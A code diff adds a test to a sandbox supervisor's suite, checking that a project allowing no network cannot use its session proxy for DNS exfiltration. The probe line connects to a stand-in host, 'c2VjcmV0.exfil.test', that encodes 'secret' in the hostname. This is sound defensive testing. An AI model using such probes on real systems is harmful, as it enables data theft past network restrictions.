@@ -877,6 +877,28 @@ describe("sbx's filtering proxy in the supervisor: one process, a proxy per sess
   });
 });
 
+// A policy that reaches nothing (--deny-net, `net.allow: []`, `offline`) cannot reach its
+// session's proxy either: the proxy would look up any name it is asked for, and the lookup
+// alone carries the name out (DNS exfiltration under "no network").
+describe("a policy that reaches nothing does not reach its session's proxy", () => {
+  it('in a project allowing no network the proxy port in HTTP_PROXY is refused (twin: a project allowing a name reaches its own)', { timeout: 120_000 }, async () => {
+    const { makeProject, makeSandbox } = await import('./supervisor-helpers.js');
+    const sb = makeSandbox('escape-net-none');
+    try {
+      const probe = `${fixture('net_client')} http-connect \${HTTP_PROXY##*:} c2VjcmV0.exfil.test:443; echo "code=$?"`;
+      const none = makeProject(join(sb.home, 'proj-none'), 'version: 1\nnet:\n  allow: []\n');
+      const some = makeProject(join(sb.home, 'proj-some'), 'version: 1\nnet:\n  allow: ["*.wild.test"]\n');
+      expect(sb.sbx(['trust'], { cwd: some }).code).toBe(0);
+      const refused = await sb.spawnSbx(['shell', '--', 'sh', '-c', probe], { cwd: none }).done;
+      expect(refused.stdout).toMatch(/^error connect: Permission denied \(errno 13\)\ncode=1$/m);
+      const reached = await sb.spawnSbx(['shell', '--', 'sh', '-c', probe], { cwd: some }).done;
+      expect(reached.stdout).not.toMatch(/error connect/); // the proxy answers (and refuses that name unresolved)
+    } finally {
+      sb.cleanup();
+    }
+  });
+});
+
 // The engine performs a program's sends from its own copy of the payload (heap memory). With
 // MSG_ZEROCOPY on a socket with SO_ZEROCOPY the kernel would pin that copy, which the engine
 // frees and reuses before the data leaves: the peer got supervisor memory.
